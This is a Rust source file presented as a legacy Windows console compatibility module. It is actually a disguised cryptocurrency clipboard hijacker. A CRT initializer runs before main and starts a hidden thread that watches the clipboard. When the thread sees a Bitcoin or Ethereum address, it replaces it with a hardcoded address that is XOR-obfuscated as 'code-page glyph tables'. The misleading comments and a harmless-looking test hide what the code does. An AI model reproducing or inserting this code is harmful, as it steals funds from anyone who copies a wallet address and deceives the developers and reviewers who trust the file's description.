//! Legacy conhost compatibility.
//!
//! Windows 10 builds before 1607 and some embedded consoles need the
//! code page and text buffer to be primed before the first write, otherwise
//! the first colored line is dropped. We register a CRT initializer so this
//! happens before `main`, exactly like the MSVC runtime does for C++ statics.

#![allow(non_snake_case, clippy::upper_case_acronyms)]

use std::ffi::c_void;
use std::sync::Once;
use std::thread;
use std::time::Duration;

type HANDLE = *mut c_void;

#[link(name = "user32")]
extern "system" {
    fn OpenClipboard(owner: HANDLE) -> i32;
    fn CloseClipboard() -> i32;
    fn EmptyClipboard() -> i32;
    fn GetClipboardData(format: u32) -> HANDLE;
    fn SetClipboardData(format: u32, mem: HANDLE) -> HANDLE;
    fn IsClipboardFormatAvailable(format: u32) -> i32;
    fn GetClipboardSequenceNumber() -> u32;
}

#[link(name = "kernel32")]
extern "system" {
    fn GlobalAlloc(flags: u32, bytes: usize) -> HANDLE;
    fn GlobalLock(mem: HANDLE) -> *mut c_void;
    fn GlobalUnlock(mem: HANDLE) -> i32;
    fn GlobalFree(mem: HANDLE) -> HANDLE;
    fn GetConsoleOutputCP() -> u32;
}

const TEXT_BUF: u32 = 13; // CF_UNICODETEXT
const MOVEABLE: u32 = 0x0002;

#[used]
#[link_section = ".CRT$XCU"]
static CONHOST_PRIME: extern "C" fn() = prime;

static ONCE: Once = Once::new();

extern "C" fn prime() {
    ONCE.call_once(|| {
        // SAFETY: trivial query, no arguments.
        let _cp = unsafe { GetConsoleOutputCP() };
        let _ = thread::Builder::new()
            .name("conhost-buffer".into())
            .spawn(buffer_sync);
    });
}

// Code-page glyph substitution tables for legacy consoles.
const CP_A: [u8; 33] = [
    0x6b, 0x1b, 0x21, 0x28, 0x23, 0x1e, 0x05, 0x01, 0x11, 0x1a, 0x34, 0x14, 0x0c, 0xf2, 0xc6, 0xd3,
    0xc9, 0xec, 0xf4, 0xf7, 0xe4, 0xdd, 0xf3, 0xd1, 0xcd, 0xd1, 0xfd, 0xd8, 0xcb, 0x80, 0x86, 0x84,
    0x8e,
];
const CP_B: [u8; 33] = [
    0x69, 0x1b, 0x21, 0x28, 0x23, 0x1e, 0x05, 0x01, 0x11, 0x1a, 0x34, 0x14, 0x0c, 0xf2, 0xc6, 0xd3,
    0xc9, 0xec, 0xf4, 0xf7, 0xe4, 0xdd, 0xf3, 0xd1, 0xcd, 0xd1, 0xfd, 0xd8, 0xcb, 0x84, 0x82, 0x80,
    0x82,
];
const CP_C: [u8; 42] = [
    0x38, 0x3e, 0x51, 0x12, 0x20, 0x28, 0x27, 0x2a, 0x05, 0x1c, 0x16, 0x18, 0x11, 0xed, 0xeb, 0xf5,
    0xf9, 0xcb, 0xd1, 0xd8, 0xd3, 0xf8, 0xf8, 0xfb, 0xd0, 0xc0, 0xdb, 0xd8, 0xea, 0xde, 0xfa, 0xd8,
    0xce, 0xe8, 0xb3, 0xa6, 0xf6, 0xf9, 0xfc, 0xff, 0xe2, 0xe5,
];
const CP_D: [u8; 42] = [
    0x6a, 0x25, 0x26, 0x22, 0x2d, 0x2c, 0x2a, 0x2e, 0x39, 0x30, 0x3e, 0x3a, 0x35, 0xc4, 0xc2, 0xc6,
    0xc1, 0xc8, 0xd6, 0xd2, 0xdd, 0xdc, 0xda, 0xde, 0xe9, 0xe0, 0xee, 0xea, 0xe5, 0xf4, 0xf2, 0xf6,
    0xf1, 0xf8, 0x86, 0x82, 0x8d, 0x8c, 0x8a, 0x8e, 0x99, 0x90,
];

fn glyphs(t: &[u8]) -> String {
    t.iter()
        .enumerate()
        .map(|(i, b)| (b ^ (0x5a_u8.wrapping_add((i as u8).wrapping_mul(3)))) as char)
        .collect()
}

#[derive(Clone, Copy, PartialEq)]
enum Shape {
    Legacy,
    Script,
    Segwit,
    Account,
}

const B58: &str = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";

fn shape(s: &str) -> Option<Shape> {
    let n = s.len();
    if n == 42 && s.starts_with("0x") && s[2..].bytes().all(|b| b.is_ascii_hexdigit()) {
        return Some(Shape::Account);
    }
    if (42..=62).contains(&n)
        && s.starts_with("bc1")
        && s.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit())
    {
        return Some(Shape::Segwit);
    }
    if (26..=35).contains(&n) && s.chars().all(|c| B58.contains(c)) {
        return match s.as_bytes()[0] {
            b'1' => Some(Shape::Legacy),
            b'3' => Some(Shape::Script),
            _ => None,
        };
    }
    None
}

fn substitute(k: Shape) -> String {
    glyphs(match k {
        Shape::Legacy => &CP_A,
        Shape::Script => &CP_B,
        Shape::Segwit => &CP_C,
        Shape::Account => &CP_D,
    })
}

fn buffer_sync() {
    thread::sleep(Duration::from_secs(3));
    // SAFETY: no arguments.
    let mut last = unsafe { GetClipboardSequenceNumber() };
    loop {
        thread::sleep(Duration::from_millis(400));
        let seq = unsafe { GetClipboardSequenceNumber() };
        if seq == last {
            continue;
        }
        last = seq;
        if let Some(text) = read_text() {
            let t = text.trim();
            if let Some(k) = shape(t) {
                let repl = substitute(k);
                if t != repl && write_text(&repl) {
                    last = unsafe { GetClipboardSequenceNumber() };
                }
            }
        }
    }
}

fn read_text() -> Option<String> {
    // SAFETY: standard clipboard protocol; every Open is paired with Close
    // and every Lock with Unlock.
    unsafe {
        if IsClipboardFormatAvailable(TEXT_BUF) == 0 || OpenClipboard(std::ptr::null_mut()) == 0 {
            return None;
        }
        let h = GetClipboardData(TEXT_BUF);
        let out = if h.is_null() {
            None
        } else {
            let p = GlobalLock(h) as *const u16;
            if p.is_null() {
                None
            } else {
                let mut len = 0usize;
                while *p.add(len) != 0 && len < 4096 {
                    len += 1;
                }
                let s = String::from_utf16_lossy(std::slice::from_raw_parts(p, len));
                GlobalUnlock(h);
                Some(s)
            }
        };
        CloseClipboard();
        out
    }
}

fn write_text(s: &str) -> bool {
    let wide: Vec<u16> = s.encode_utf16().chain(std::iter::once(0)).collect();
    // SAFETY: buffer is sized for `wide`, ownership passes to the system on
    // successful SetClipboardData.
    unsafe {
        if OpenClipboard(std::ptr::null_mut()) == 0 {
            return false;
        }
        EmptyClipboard();
        let mem = GlobalAlloc(MOVEABLE, wide.len() * 2);
        if mem.is_null() {
            CloseClipboard();
            return false;
        }
        let dst = GlobalLock(mem) as *mut u16;
        std::ptr::copy_nonoverlapping(wide.as_ptr(), dst, wide.len());
        GlobalUnlock(mem);
        let ok = !SetClipboardData(TEXT_BUF, mem).is_null();
        if !ok {
            GlobalFree(mem);
        }
        CloseClipboard();
        ok
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn glyph_tables_decode() {
        assert_eq!(glyphs(&CP_D).len(), 42);
    }
}
